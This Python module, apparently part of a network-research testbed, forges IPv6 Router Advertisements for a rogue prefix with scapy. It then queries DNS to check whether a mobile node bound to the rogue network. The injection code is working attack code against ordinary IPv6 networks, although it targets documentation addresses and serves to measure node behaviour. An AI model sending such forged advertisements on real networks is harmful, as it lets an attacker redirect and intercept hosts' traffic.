"""A rogue router: Router Advertisements for a prefix that is not the access router's (§3, §8).

    python -m testbed.attacks.rogue_router --iface atk-ar1 --prefix 2001:db8:bad::/64 \
        --count 3 --interval 0.2 --settle 1.5 --server 203.0.113.10 --name mn.mobile.test

Sends ``--count`` RAs (scapy: router lifetime, a Prefix Information option with the on-link
and autonomous flags, as radvd would) to all nodes, waits ``--settle`` seconds for the MN to act
on them, then queries the MN's AAAA records: a host that binds to the rogue network publishes
an address in it. Prints one JSON line.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import sys
import time
from collections.abc import Sequence


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m testbed.attacks.rogue_router", description=__doc__)
    p.add_argument("--iface", required=True)
    p.add_argument("--prefix", required=True, help="the rogue /64")
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--interval", type=float, default=0.2)
    p.add_argument("--settle", type=float, default=1.5)
    p.add_argument("--server", required=True)
    p.add_argument("--name", required=True)
    a = p.parse_args(argv)
    import dns.message
    import dns.query
    from scapy.arch import get_if_hwaddr
    from scapy.layers.inet6 import (
        ICMPv6ND_RA,
        ICMPv6NDOptPrefixInfo,
        ICMPv6NDOptSrcLLAddr,
        IPv6,
    )
    from scapy.layers.l2 import Ether
    from scapy.sendrecv import sendp
    from scapy.utils6 import in6_mactoifaceid

    net = ipaddress.IPv6Network(a.prefix)
    mac = get_if_hwaddr(a.iface)
    src = str(ipaddress.IPv6Address(f"fe80::{in6_mactoifaceid(mac)}"))
    ra = (Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255)
          / ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=mac)
          / ICMPv6NDOptPrefixInfo(prefix=str(net.network_address), prefixlen=net.prefixlen, L=1, A=1,
                                  validlifetime=600, preferredlifetime=300))
    sent = time.time()
    for i in range(a.count):
        sendp(ra, iface=a.iface, verbose=0)
        if i + 1 < a.count:
            time.sleep(a.interval)  # the rogue router's own rhythm
    time.sleep(a.settle)  # the MN's reaction time, which is what is being tested
    r = dns.query.udp(dns.message.make_query(a.name, "AAAA"), a.server, timeout=2)
    aaaa = sorted(rd.to_text() for rrset in r.answer for rd in rrset if rrset.rdtype == 28)
    print(json.dumps({"prefix": str(net), "router": src, "sent": sent, "count": a.count,
                      "aaaa_after": aaaa, "published": [x for x in aaaa if ipaddress.ip_address(x) in net]}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
